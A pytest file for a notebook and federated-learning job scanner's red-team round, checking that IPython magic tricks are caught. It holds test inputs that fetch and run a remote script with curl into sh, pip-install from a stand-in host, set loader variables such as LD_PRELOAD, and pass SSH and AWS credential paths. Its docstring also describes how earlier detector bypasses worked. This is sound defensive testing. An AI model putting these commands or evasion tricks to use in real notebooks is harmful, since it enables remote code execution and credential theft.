"""Red team 45b: Flower apps, notebooks and NVFlare job configs.

- An assigned line magic runs like the bare one (IPython's MagicAssign transformer: `x = %env A=B` is
  `x = get_ipython().run_line_magic("env", "A=B")`). The reader turned `_ = %env PYTHONPATH=/tmp/hooks` into `pass`
  as it does the bare line, but the detector that turns %env/%set_env/%cd/%pushd/%run -m back into what they do
  matched the magic only at the line's start: the loader variable was never seen, and the notebook accepted.
- `%%script python3 ARGS` and its shortcuts `%%python ARGS`/`%%python3 ARGS` run [python3, *ARGS] with the cell on
  stdin (IPython core/magics/script.py shebang): `-c CODE` or `-m MODULE` runs and the body is never read. The
  reader took the body as the cell's Python and dropped ARGS; now the body is the script only when nothing but `-`
  follows the interpreter, and anything else is the shell command it is.
"""

from __future__ import annotations

import json

import pytest

import redteam_kit as kit
from analyzer.engine.notebooks import read_notebook
from analyzer.model import Decision

TRAIN = ("import numpy as np\nimport nvflare.client as flare\n\nflare.init()\nwhile flare.is_running():\n"
         "    m = flare.receive()\n    w = np.asarray(m.params['w'], dtype=float)\n"
         "    flare.send(flare.FLModel(params={'w': w}, metrics={'mse': 0.1}))")


def notebook(*cells: str) -> str:
    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [
        {"cell_type": "code", "metadata": {}, "execution_count": None, "outputs": [], "source": c}
        for c in (*cells, TRAIN)]})


def scan_notebook(tmp_path, *cells: str):
    return kit.scan_files(tmp_path, {"train.ipynb": notebook(*cells)})


# ---- the corpus ---------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("entry", kit.labelled("/rt45b_"), ids=lambda e: e["path"])
def test_attack_is_held_as_labelled(entry):
    report = kit.scan_sample(entry["path"])
    assert report.decision.value in entry["expect"], kit.findings(report)
    kit.assert_held(report)


@pytest.mark.parametrize("sample", kit.corpus_samples("benign/near_rt45b_*", "jobs/near_rt45b_*"))
def test_near_twin_stays_accepted(sample):
    kit.assert_accepted(kit.scan_sample(sample))


# ---- an assigned line magic ---------------------------------------------------------------------------------------

@pytest.mark.parametrize("line", ["_ = %env PYTHONPATH=/tmp/.fl-hooks", "e = %set_env LD_PRELOAD /tmp/x.so",
                                  "a, b = %env PYTHONSTARTUP=/tmp/s.py"])
def test_an_assigned_loader_variable_rejects(tmp_path, line):
    kit.assert_held(scan_notebook(tmp_path, line), "dynamic-code.loader-environment", Decision.REJECT)


def test_an_assigned_cd_outside_is_judged(tmp_path):
    report = scan_notebook(tmp_path, "d = %cd /srv/other-study")
    kit.assert_held(report, "file-exfiltration.chdir-outside")


def test_an_assigned_run_module_with_arguments_is_a_program(tmp_path):
    report = scan_notebook(tmp_path, "r = %run -m pip install -q https://x.example/pkg.tar.gz")
    kit.assert_held(report, "files.notebook-shell-network", Decision.REJECT)


def test_an_assigned_harmless_variable_stays_accepted(tmp_path):
    kit.assert_accepted(scan_notebook(tmp_path, "_ = %env OMP_NUM_THREADS=1"))


# ---- %%script python with arguments -------------------------------------------------------------------------------

@pytest.mark.parametrize("head", [
    "%%script python3 -c \"import os; os.system('curl -s https://x.example/a | sh')\"",
    "%%python3 -c \"import os; os.system('curl -s https://x.example/a | sh')\"",
    "%%script python3 -m pip install -q https://x.example/pkg.tar.gz",
    "%%python -m http.server 8000",
])
def test_script_python_with_code_in_its_arguments_rejects(tmp_path, head):
    report = scan_notebook(tmp_path, head + "\nprint('features ready')")
    kit.assert_held(report, "files.notebook-shell-network", Decision.REJECT)


@pytest.mark.parametrize("head", ["%%script python3 -W ignore::helpers.Noisy", "%%script python3 helpers.py",
                                  "%%python3 -X importtime", "%%script python-tool"])
def test_script_python_with_other_arguments_is_a_shell_command(tmp_path, head):
    kit.assert_held(scan_notebook(tmp_path, head + "\nprint('ok')"), "files.notebook-shell")


@pytest.mark.parametrize("head", ["%%script python3", "%%script python3 -", "%%python3", "%%python", "%%script python"])
def test_script_python_reading_its_body_runs_the_body(head):
    nb = read_notebook(notebook(head + "\nimport os\nos.system('id')").encode())
    assert not nb.shell and "os.system('id')" in nb.cells[0].source


@pytest.mark.parametrize("head", ["%%script python3", "%%python3"])
def test_script_python_body_is_judged_as_python(tmp_path, head):
    report = scan_notebook(tmp_path, head + "\nimport os\nos.system('curl -s https://x.example/a | sh')")
    kit.assert_held(report, "remote-code.fetch-and-run-command", Decision.REJECT)


# ---- %run's arguments ---------------------------------------------------------------------------------------------

SCRIPT = "import sys\nimport pandas as pd\n\ndf = pd.read_csv(sys.argv[-1])\nprint(df.shape)\n"


@pytest.mark.parametrize("line", ["%run train.py --data-path /root/.ssh/id_rsa", "out = %run -m train ~/.aws/credentials",
                                  "%run -p -T ~/.bashrc train.py /data/site-1/train.csv"])
def test_run_with_a_credential_or_start_up_file_rejects(tmp_path, line):
    report = kit.scan_files(tmp_path, {"train.py": SCRIPT, "run.ipynb": notebook(line)})
    kit.assert_held(report, "files.notebook-run-sensitive-argument", Decision.REJECT)


def test_run_with_a_data_path_stays_accepted(tmp_path):
    report = kit.scan_files(tmp_path, {"train.py": SCRIPT, "run.ipynb": notebook("%run train.py /data/site-1/train.csv")})
    kit.assert_accepted(report)


# ---- the kernel's language ----------------------------------------------------------------------------------------

POLYGLOT = 'banner = "$(curl -s https://x.example/banner.sh | sh)"'


@pytest.mark.parametrize("metadata", [
    {"kernelspec": {"name": "bash", "language": "bash", "display_name": "Bash"}},
    {"language_info": {"name": "R"}},
    {"kernelspec": {"name": "python3", "language": "python"}, "language_info": {"name": "bash"}},
])
def test_a_kernel_of_another_language_escalates(tmp_path, metadata):
    doc = json.loads(notebook(POLYGLOT))
    doc["metadata"] = metadata
    report = kit.scan_files(tmp_path, {"train.ipynb": json.dumps(doc)})
    kit.assert_held(report, "unanalyzable.notebook")


@pytest.mark.parametrize("metadata", [{}, {"kernelspec": {"name": "nvflare_example", "language": "python"}},
                                      {"kernelspec": {"name": "python3"}, "language_info": {"name": "python"}}])
def test_a_python_kernel_stays_accepted(tmp_path, metadata):
    doc = json.loads(notebook(POLYGLOT))
    doc["metadata"] = metadata
    kit.assert_accepted(kit.scan_files(tmp_path, {"train.ipynb": json.dumps(doc)}))


# ---- a credential path in a file the job ships (a Flower run config) ---------------------------------------------

FLOWER = kit.CORPUS / "jobs/near_rt45b_flower_runcfg_site_table"


def flower_app(tmp_path, table: str):
    files = {p.relative_to(FLOWER).as_posix(): p.read_text() for p in FLOWER.rglob("*") if p.is_file()}
    files["pyproject.toml"] = files["pyproject.toml"].replace("/data/site-1/train.csv", table)
    return kit.scan_files(tmp_path, files)


@pytest.mark.parametrize("table", ["/root/.ssh/id_rsa", "~/.aws/credentials", "/home/ops/.bashrc"])
def test_a_run_config_naming_a_credential_or_start_up_file_escalates(tmp_path, table):
    kit.assert_held(flower_app(tmp_path, table), "config-attack.file-sensitive-path")


def test_a_run_config_naming_the_site_table_stays_accepted(tmp_path):
    kit.assert_accepted(flower_app(tmp_path, "/data/site-2/cohort.csv"))


def test_a_credential_path_assembled_from_run_config_pieces_is_held(tmp_path):
    # Open in 45b; red team 46c: a run-config value that is a credential file's name (`table = "id_rsa"`) is
    # config-attack.file-sensitive-path (detectors/files.py reads the TOML's strings as tomllib does). A name
    # split further ("id_" + "rsa") is a path known only at run time, left to the process guard.
    files = {p.relative_to(FLOWER).as_posix(): p.read_text() for p in FLOWER.rglob("*") if p.is_file()}
    files["pyproject.toml"] = files["pyproject.toml"].replace('table = "/data/site-1/train.csv"',
                                                              'table = "id_rsa"\nfolder = "ssh"')
    app = "tabapp/client_app.py"
    files[app] = files[app].replace("import pandas as pd", "import os\nimport pandas as pd").replace(
        'context.run_config["table"]',
        'os.path.join(os.path.expanduser("~"), "." + context.run_config["folder"], context.run_config["table"])')
    kit.assert_held(kit.scan_files(tmp_path, files), "config-attack.file-sensitive-path")
